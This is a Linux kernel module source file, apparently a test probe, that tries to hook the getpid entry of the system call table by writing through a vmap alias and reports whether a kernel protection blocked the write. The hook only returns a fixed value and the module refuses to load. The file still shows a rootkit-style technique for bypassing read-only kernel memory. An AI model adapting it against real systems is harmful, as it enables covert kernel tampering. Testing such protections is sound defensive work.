// SPDX-License-Identifier: GPL-2.0
/* Attack: hook a sys_call_table entry (getpid) through a vmap alias. */
#include <linux/module.h>
#include <linux/syscalls.h>
#include "alias.h"

static unsigned long table;
module_param(table, ulong, 0400);

static long hooked_getpid(const struct pt_regs *regs)
{
	return 4242;
}

static int __init atk_init(void)
{
	unsigned long *entry = (unsigned long *)table + __NR_getpid;
	unsigned long hook = (unsigned long)hooked_getpid;
	int r = alias_write((unsigned long)entry, &hook, sizeof(hook));

	report("syscall table write %s", r == 0 ? "WENT THROUGH" : "blocked");
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
